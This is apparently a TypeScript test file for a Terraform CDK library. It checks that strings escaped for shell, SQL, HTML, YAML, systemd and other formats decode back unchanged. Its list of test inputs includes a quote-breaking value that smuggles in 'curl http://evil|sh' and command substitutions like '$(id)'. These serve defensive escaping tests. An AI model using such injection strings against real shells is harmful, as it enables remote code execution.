// A string that is encoded for another language is read back unchanged by a reader of that language, both for values in the code and
// for inputs when Terraform runs.

import { TerraformOutput, TerraformVariable } from "cdktf";
import { parse } from "yaml";
import { TextLanguage, Texts } from "../../../lib";
import { encoded, LANGUAGES } from "../../../lib/core/token/language";
import { applied, terraformIsThere } from "../../support/applied";
import { cpuTime, QUICK } from "../../support/cpu-time";
import { bashIsThere, jaasOptions, javaProperties, shellWords } from "../../support/readers";
import { newStack, synthesize } from "../../support/synthesis";

const HOSTILE = [
  'a"b\\c',
  "x'; curl http://evil|sh; echo '",
  "DOM\\ada",
  "größe",
  "\\uplib C:\\kafka\\plugins",
  " leads and ends ",
  "two\nlines\r\nand\ttabs",
  "${topic} %{yyyy} $${x} $",
  "😀 \u0085 \u007f \u2028 \u202e",
  "<b>&amp;</b> `id` $(id) $HOME !x",
  "0123",
  "~",
  "",
];

type Reader = (text: string) => string;

const READERS: [TextLanguage, Reader][] = [
  [TextLanguage.JSON, (text) => JSON.parse(text) as string],
  [TextLanguage.YAML, (text) => parse(text, { version: "1.2" }) as string],
  [TextLanguage.YAML, (text) => parse(text, { version: "1.1" }) as string],
  [TextLanguage.BASE64, (text) => Buffer.from(text, "base64").toString()],
  [TextLanguage.JAAS, (text) => jaasOptions(`Module required a=${text};`).a ?? "none"],
  [TextLanguage.PROPERTY, (text) => javaProperties(`a=b${text}`).a?.slice(1) ?? "none"],
  [TextLanguage.SQL, (text) => text.slice(1, -1).replaceAll("''", "'")],
  [TextLanguage.CSV, (text) => text.slice(1, -1).replaceAll('""', '"')],
  [TextLanguage.URL, decodeURIComponent],
  [
    TextLanguage.HTML,
    (text) =>
      text
        .replaceAll("&#39;", "'")
        .replaceAll("&quot;", '"')
        .replaceAll("&gt;", ">")
        .replaceAll("&lt;", "<")
        .replaceAll("&amp;", "&"),
  ],
  [TextLanguage.SYSTEMD, (text) => JSON.parse(text.replaceAll("%%", "%").replaceAll("$$", "$")) as string],
  ...(bashIsThere
    ? [[TextLanguage.SHELL, (text: string) => shellWords(text).join("|")] as [TextLanguage, Reader]]
    : []),
];

/** As Terraform reads a string without expressions. */
const plain = (text: string): string => text.replaceAll("$${", "${").replaceAll("%%{", "%{");

describe.each(READERS)("a string in %s", (language, read) => {
  test.each(HOSTILE)("%j, written in the code, is read back unchanged", (text) => {
    const literal = text.replaceAll("$${", "$$$${");
    expect(read(plain(Texts.encoded(literal, language)))).toBe(plain(literal));
  });
});

const described = terraformIsThere ? describe : describe.skip;

described("with the real Terraform", () => {
  const make = (text: (reference: string) => string): Record<string, string>[] => {
    const stack = newStack();
    const inputs = HOSTILE.map((_, index) => new TerraformVariable(stack, `v${index}`, { type: "string" }));
    for (const [index, { stringValue }] of inputs.entries()) {
      for (const [at, [language]] of READERS.entries()) {
        const value = Texts.encoded(text(stringValue), language);
        new TerraformOutput(stack, `o${at}_${index}`, { value });
      }
    }
    const values = Object.fromEntries(HOSTILE.map((one, index) => [`v${index}`, one]));
    return [applied(synthesize(stack), values)];
  };

  test("every input is read back unchanged in each language", () => {
    const [outputs = {}] = make((reference) => reference);
    for (const [at, [language, read]] of READERS.entries()) {
      const found = HOSTILE.map((_, index) => read(outputs[`o${at}_${index}`] ?? ""));
      expect([language, found]).toEqual([language, HOSTILE]);
    }
  });

  test("an input within a string with quotes, dollar signs and braces is read back unchanged", () => {
    const [outputs = {}] = make((reference) => `"it's" \${a:${reference}:b} 5 $${reference}%{c}`);
    for (const [at, [language, read]] of READERS.entries()) {
      const found = HOSTILE.map((_, index) => read(outputs[`o${at}_${index}`] ?? ""));
      expect([language, found]).toEqual([language, HOSTILE.map((one) => `"it's" \${a:${one}:b} 5 $${one}%{c}`)]);
    }
  });

  test("fails for a line break in a line of a block", () => {
    const stack = newStack();
    const { stringValue } = new TerraformVariable(stack, "v", { type: "string" });
    new TerraformOutput(stack, "o", { value: Texts.encoded(`a: ${stringValue}`, TextLanguage.LINES) });
    const document = synthesize(stack);
    expect(applied(document, { v: "one größe 'line'" })).toEqual({ o: "a: one größe 'line'" });
    for (const v of ["a\nb", "a\rb", "a\u0085b", "a\u2028b"]) {
      expect(() => applied(document, { v })).toThrow(/pattern did not match/);
    }
  });

  test("a key in a properties file stays one key", () => {
    const stack = newStack();
    const { stringValue } = new TerraformVariable(stack, "v", { type: "string" });
    const key = encoded(LANGUAGES.propertyKey, stringValue);
    new TerraformOutput(stack, "o", { value: `${key}=1` });
    const { o = "" } = applied(synthesize(stack), { v: "a b=c:#ö" });
    expect(javaProperties(o)).toEqual({ "a b=c:#ö": "1" });
  });
});

test("a handwritten expression is encoded like a reference, and keeps its quotes", () => {
  const stack = newStack();
  const text = Texts.encoded('${data.x.result["password"]}', TextLanguage.JSON);
  expect(Texts.resolved(stack, text)).toBe('"${replace(jsonencode(data.x.result["password"]), "/^\\"|\\"$/", "")}"');
});

test("OCIDs and addresses that OCI generates stay unchanged", () => {
  const stack = newStack();
  const resolved = (text: string): string => Texts.resolved(stack, Texts.encoded(text, TextLanguage.SHELL));
  expect(resolved("${oci_streaming_stream_pool.pool.kafka_settings[0].bootstrap_servers}")).toBe(
    "'${oci_streaming_stream_pool.pool.kafka_settings[0].bootstrap_servers}'",
  );
  expect(resolved("${oci_streaming_stream.s.id}")).toBe("'${oci_streaming_stream.s.id}'");
  expect(resolved("${oci_streaming_stream.s.name}")).toContain("replace(");
});

test.each(["$", "${", "${a", "$}"])("50,000 characters of %s before a reference are written quickly", (kind) => {
  const text = `${kind.repeat(50_000 / kind.length)}}a\${var.x}`;
  expect(cpuTime(() => encoded(LANGUAGES.shell, text))).toBeLessThan(QUICK);
});
